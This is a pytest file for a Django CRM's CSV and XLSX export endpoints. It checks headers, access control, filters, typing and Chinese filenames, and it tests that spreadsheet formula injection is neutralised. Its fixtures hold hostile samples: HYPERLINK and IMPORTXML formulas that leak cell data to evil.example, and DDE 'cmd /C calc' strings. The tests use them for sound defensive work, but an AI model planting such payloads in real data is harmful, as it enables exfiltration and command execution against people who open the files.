"""The export endpoints: files named by the day, never cached, refused like any API call,
with formula payloads typed by anyone coming out inert in both formats."""

from datetime import timedelta
from typing import Any
from urllib.parse import unquote

import pytest
from django.utils import timezone

from guishu.activities.services import activity_log, order_record
from tests.api.conftest import World
from tests.exports.helpers import as_dicts, csv_table, xlsx_cells, xlsx_table
from tests.exports.test_writers import PAYLOADS
from tests.factories import register

pytestmark = pytest.mark.db_facing

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def export(world: World, person: str, path: str, **params: Any) -> Any:
    return world.client(person).get(f"/api/v1/exports/{path}", params)


@pytest.mark.parametrize(
    ("path", "stem"),
    [("customers", "Customers"), ("collisions", "Collisions"), ("disputes", "Disputes")],
)
@pytest.mark.parametrize(("suffix", "content_type"), [("csv", "text/csv"), ("xlsx", XLSX)])
def test_an_export_is_an_attachment_named_by_the_day_and_never_cached(
    world: World, path: str, stem: str, suffix: str, content_type: str
):
    response = export(world, "alice", f"{path}.{suffix}")
    assert response.status_code == 200
    assert response["Content-Type"].split(";")[0] == content_type
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="{stem}-{today}.{suffix}"'
    assert response["Cache-Control"] == "no-store"


def test_csv_streams_and_xlsx_is_sent_from_a_file_with_its_length(world: World):
    assert export(world, "alice", "customers.csv").streaming
    response = export(world, "alice", "customers.xlsx")
    assert int(response["Content-Length"]) == len(b"".join(response.streaming_content)) > 0


def test_exports_answer_problems_like_the_rest_of_the_api(world: World):
    anonymous = export(world, "anonymous", "customers.csv")
    assert anonymous.status_code == 401 and anonymous.json()["code"] == "not_authenticated"
    unknown = export(world, "alice", "customers.pdf")
    assert unknown.status_code == 404 and unknown["Content-Type"] == "application/problem+json"
    bad = export(world, "alice", "customers.xlsx", scope="everything")
    assert bad.status_code == 400 and bad.json()["parameter"] == "scope"
    assert export(world, "alice", "disputes.csv", waiting="you").status_code == 400
    assert export(world, "alice", "collisions.csv", action="steal").status_code == 400


def test_what_the_client_accepts_does_not_change_the_file_or_its_errors(world: World):
    client = world.client("alice")
    response = client.get("/api/v1/exports/customers.csv?format=json", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    refused = client.get("/api/v1/exports/customers.csv?level=Z", HTTP_ACCEPT="text/csv")
    assert refused.status_code == 400 and refused.json()["code"] == "invalid_parameter"


def test_another_reps_customer_answers_404_for_its_activities_and_orders(world: World):
    for path in (f"customers/{world.acme}/activities.csv", f"customers/{world.acme}/orders.xlsx"):
        assert export(world, "bob", path).status_code == 404
        assert export(world, "dave", path).status_code == 404
        assert export(world, "carol", path).status_code == 200
    assert export(world, "alice", "customers/abc/orders.csv").status_code == 404


def test_the_customer_filters_are_the_api_lists(world: World, cast: Any):
    client = world.client("carol")
    for params in ({"scope": "pool"}, {"scope": "mine"}, {"scope": "team"}, {"q": "Tools"}):
        listed = client.get("/api/v1/customers/", {**params, "page_size": 200}).json()
        exported = as_dicts(csv_table(client.get("/api/v1/exports/customers.csv", params)))
        assert [int(row["ID"]) for row in exported] == [row["id"] for row in listed["results"]]
    owner = {"owner": cast.alice.pk, "ordering": "-created_at"}
    exported = as_dicts(xlsx_table(client.get("/api/v1/exports/customers.xlsx", owner)))
    assert [row["ID"] for row in exported] == [world.acme]


# --- formula injection ------------------------------------------------------------------------


@pytest.fixture
def booby_trapped(cast: Any) -> Any:
    """Alice's customer, its activity and its order, each text typed as a formula."""
    customer = register(
        cast.alice,
        '=HYPERLINK("https://evil.example/?x="&A2,"Acme")',
        aliases=("@SUM(A1)", "＝1+1 Trading"),
        industry="-1+1",
        source="+cmd|' /C calc'!A0",
        city="\t=1+1",
        region="=cmd|' /C calc'!A0",
    )
    occurred = timezone.now() - timedelta(hours=2)
    activity_log(
        user=cast.alice,
        customer_id=customer.pk,
        kind="call",
        occurred_at=occurred,
        outcome="@SUM(1+9)*cmd|' /C calc'!A0",
        note='=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    )
    order_record(
        user=cast.alice,
        customer_id=customer.pk,
        number="=1+1",
        amount=250,
        ordered_at=occurred,
    )
    return customer


def risky(value: Any) -> bool:
    return isinstance(value, str) and value.lstrip(" \u3000")[:1] in set("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("list_path", ["customers", "activities", "orders"])
def test_formulas_typed_into_records_come_out_inert_in_both_formats(
    world: World, booby_trapped: Any, list_path: str
):
    path = "customers" if list_path == "customers" else f"customers/{booby_trapped.pk}/{list_path}"
    query = {"q": "HYPERLINK"} if list_path == "customers" else {}
    table = csv_table(export(world, "alice", f"{path}.csv", **query))
    cells = [cell for row in table[1:] for cell in row]
    # A text cell may begin with the quote (now text), never with a trigger.
    assert not [cell for cell in cells if risky(cell)]
    quoted = [cell for cell in cells if cell.startswith("'")]
    assert len(quoted) >= {"customers": 6, "activities": 2, "orders": 1}[list_path]

    rows = xlsx_cells(export(world, "alice", f"{path}.xlsx", **query))[1:]
    assert rows
    for cell in (cell for row in rows for cell in row):
        assert cell.data_type != "f"
        if risky(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
        elif isinstance(cell.value, str):
            assert not cell.value.startswith("'")  # exactly as typed: no quote added


def test_payloads_of_every_kind_typed_as_a_note_are_inert(world: World, cast: Any):
    now = timezone.now()
    for n, payload in enumerate(PAYLOADS):
        activity_log(
            user=cast.alice,
            customer_id=world.acme,
            kind="email",
            occurred_at=now - timedelta(minutes=n + 1),
            note=payload.replace("\0", ""),  # the database keeps no NUL
        )
    path = f"customers/{world.acme}/activities"
    notes = [row["Note"] for row in as_dicts(csv_table(export(world, "alice", f"{path}.csv")))]
    assert sorted(notes) == sorted("'" + p.replace("\0", "") for p in PAYLOADS)
    cells = [row[5] for row in xlsx_cells(export(world, "alice", f"{path}.xlsx"))[1:]]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_numbers_stay_numbers_and_dates_dates_in_xlsx(world: World):
    rows = xlsx_cells(export(world, "alice", f"customers/{world.acme}/orders.xlsx"))
    header = [cell.value for cell in rows[0]]
    order = dict(zip(header, rows[1], strict=True))
    assert order["Amount"].data_type == "n" and order["Amount"].value == 1000
    assert order["Amount"].number_format == "#,##0.00"
    assert order["Collected"].value == 0 and order["Collected"].data_type == "n"
    assert order["Ordered"].is_date
    assert order["Credits"].value == "Alice (owner) 100.00% = 1000.00"


# --- Chinese --------------------------------------------------------------------------------


def test_chinese_text_round_trips_and_names_the_file(world: World, cast: Any):
    customer = register(
        cast.alice, "华为技术有限公司", aliases=("华为",), city="深圳", region="广东省"
    )
    rows = as_dicts(csv_table(export(world, "alice", "customers.csv", q="华为")))
    assert [(r["Name"], r["Other names"], r["Region"], r["City"]) for r in rows] == [
        ("华为技术有限公司", "华为", "广东省", "深圳")
    ]
    rows = as_dicts(xlsx_table(export(world, "alice", "customers.xlsx", q="华为")))
    assert [(r["Name"], r["Other names"], r["City"]) for r in rows] == [
        ("华为技术有限公司", "华为", "深圳")
    ]

    response = world.client("alice").get(
        f"/api/v1/exports/customers/{customer.pk}/activities.xlsx",
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    header = response["Content-Disposition"]
    today = timezone.localdate().isoformat()
    fallback = f'attachment; filename="customer-{customer.pk}-activities-{today}.xlsx"; '
    assert header.startswith(fallback) and header.isascii()
    name = unquote(header.split("filename*=UTF-8''", 1)[1])
    assert name.startswith("华为技术有限公司") and name.endswith(f"-{today}.xlsx")
    assert xlsx_table(response)[0][0]  # a workbook, with its header
